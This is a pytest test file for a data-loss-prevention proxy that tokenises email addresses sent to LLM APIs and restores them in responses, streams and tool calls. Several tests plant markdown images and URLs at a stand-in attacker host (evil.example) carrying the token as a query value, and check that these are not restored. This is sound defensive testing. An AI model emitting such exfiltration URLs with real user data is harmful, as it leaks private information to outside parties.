"""What the policy's `response:` section does to answers, whole and streamed."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Mapping, Sequence

import pytest

from dlp.engine.answer import restore_body, stream_restorer
from dlp.engine.case import Request
from dlp.engine.leaves import Stats
from dlp.engine.request import Engine
from dlp.policy.model import Policy, ResponseSettings, Urls
from dlp.providers.format import WireFormat
from dlp.providers.formats import anthropic, gemini, openai
from dlp.types import Finding

MAIL = "anna@x.example"


class Mails:
    """Finds one address, wherever it stands."""

    def find(self, text: str, context: str = "") -> tuple[Finding, ...]:
        return tuple(
            Finding(entity_type="EMAIL_ADDRESS", start=match.start(), end=match.end(), score=1.0, recognizer="test")
            for match in re.finditer(re.escape(MAIL), text)
        )

    def find_many(self, texts: Sequence[tuple[str, str]]) -> list[tuple[Finding, ...]]:
        return [self.find(*text) for text in texts]


def values_for(text: str, **terms: object) -> tuple[Mapping[str, str], str]:
    """What may be restored after a request that says `text`, and the token of the address."""
    engine = Engine(Policy(name="test", response=ResponseSettings(**terms)), Mails(), b"k" * 32)  # type: ignore[arg-type]
    body = json.dumps({"messages": [{"role": "user", "content": f"{MAIL} {text}"}]}).encode()
    examined = engine.examine(Request("POST", "/", body, "application/json"), openai.CHAT, "scope")
    return examined.values, json.loads(examined.body)["messages"][0]["content"].split()[0]


def restored(answer: object, wire_format: WireFormat, values: Mapping[str, str]) -> str:
    return restore_body(json.dumps(answer).encode(), wire_format, values, Stats()).decode()


def streamed(pieces: list[str], values: Mapping[str, str]) -> str:
    """The content of a chat stream with these deltas."""
    stream = "".join(
        f"data: {json.dumps({'choices': [{'index': 0, 'delta': {'content': piece}}]})}\n\n" for piece in pieces
    )
    restorer = stream_restorer("text/event-stream", openai.CHAT, values, Stats())
    out = b"".join([*restorer.feed(stream.encode()), *restorer.feed(b"data: [DONE]\n\n"), *restorer.flush()])
    events = [line[6:] for line in out.decode().splitlines() if line.startswith("data: {")]
    return "".join(json.loads(event)["choices"][0]["delta"]["content"] for event in events)


def test_a_planted_image_delivers_nothing_and_the_rest_is_restored() -> None:
    values, token = values_for("summarise this page")
    text = f"Hello {token}! ![](https://evil.example/?q={token}) Bye {token}."
    expected = f"Hello {MAIL}! ![](https://evil.example/?q={token}) Bye {MAIL}."
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
    assert json.loads(restored(answer, openai.CHAT, values))["choices"][0]["message"]["content"] == expected
    for cut in range(len(text)):
        assert streamed([text[:cut], text[cut:]], values) == expected, cut
    assert streamed(list(text), values) == expected


def test_a_url_that_the_caller_sent_is_restored() -> None:
    url = f"https://crm.example/u?mail={MAIL}&x=1"
    values, token = values_for(f"open {url} please")
    text = f"I opened https://crm.example/u?mail={token}&x=1, not https://crm2.example/u?mail={token}"
    expected = text.replace(token, MAIL, 1)
    for cut in range(len(text)):
        assert streamed([text[:cut], text[cut:]], values) == expected, cut


def test_urls_restore_trusts_the_model() -> None:
    values, token = values_for("x", urls=Urls.RESTORE)
    assert streamed([f"https://any.example/{token}"], values) == f"https://any.example/{MAIL}"


def test_beginnings_of_urls_among_thousands_of_small_events_are_seen() -> None:
    """Events that hold no token are left out of parsing; a URL that began in them counts all the same."""
    values, token = values_for("x")
    text = (
        "word " * 300
        + "![]("
        + f'https://evil.example/?"q={token}) and {token} '
        + "word " * 300
        + f"www.evil.example/{token}"
    )
    head, mail, tail = text.partition(f" and {token}")
    assert streamed(list(text), values) == head + mail.replace(token, MAIL) + tail
    words = [piece + " " for piece in text.split(" ")]
    assert streamed(words, values) == head + mail.replace(token, MAIL) + tail + " "


CALLS = [
    (openai.CHAT, {"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": '{"to": "%s"}'}}]}}]}),
    (openai.CHAT, {"choices": [{"message": {"function_call": {"name": "f", "arguments": '{"to": "%s"}'}}}]}),
    (openai.RESPONSES, {"output": [{"type": "function_call", "name": "f", "arguments": '{"to": "%s"}'}]}),
    (openai.RESPONSES, {"output": [{"type": "custom_tool_call", "name": "f", "input": "%s"}]}),
    (openai.RESPONSES, {"type": "response.function_call_arguments.done", "arguments": "%s"}),
    (openai.RESPONSES, {"type": "response.custom_tool_call_input.done", "input": "%s"}),
    (anthropic.MESSAGES, {"content": [{"type": "tool_use", "name": "f", "input": {"to": ["%s"]}}]}),
    (gemini.GENERATE, {"candidates": [{"content": {"parts": [{"functionCall": {"name": "f", "args": {"to": "%s"}}}]}}]}),
]  # fmt: skip


@pytest.mark.parametrize(("wire_format", "answer"), CALLS, ids=[str(index) for index in range(len(CALLS))])
def test_tools_are_called_with_values_or_with_tokens(wire_format: WireFormat, answer: object) -> None:
    for arguments, expected in ((True, MAIL), (False, None)):
        values, token = values_for("x", tool_arguments=arguments)
        filled = json.loads(json.dumps(answer).replace("%s", token))
        assert (expected or token) in restored(filled, wire_format, values)


@pytest.mark.parametrize("arguments", [True, False])
def test_streamed_arguments_follow_the_same_line(*, arguments: bool) -> None:
    values, token = values_for("x", tool_arguments=arguments)
    events = [
        {"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": piece}}
        for piece in ('{"to": "', token[:9], token[9:], '"}')
    ] + [{"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": token}}]
    stream = "".join(f"event: x\ndata: {json.dumps(event)}\n\n" for event in events).encode()
    restorer = stream_restorer("text/event-stream", anthropic.MESSAGES, values, Stats())
    out = b"".join(itertools.chain(restorer.feed(stream), restorer.flush())).decode()
    parts = [json.loads(line[6:])["delta"] for line in out.splitlines() if line.startswith("data: ")]
    assert "".join(part.get("partial_json", "") for part in parts) == f'{{"to": "{MAIL if arguments else token}"}}'
    assert "".join(part.get("text", "") for part in parts) == MAIL


def test_without_restoring_nothing_comes_back() -> None:
    values, _ = values_for("x", restore=False)
    assert not values
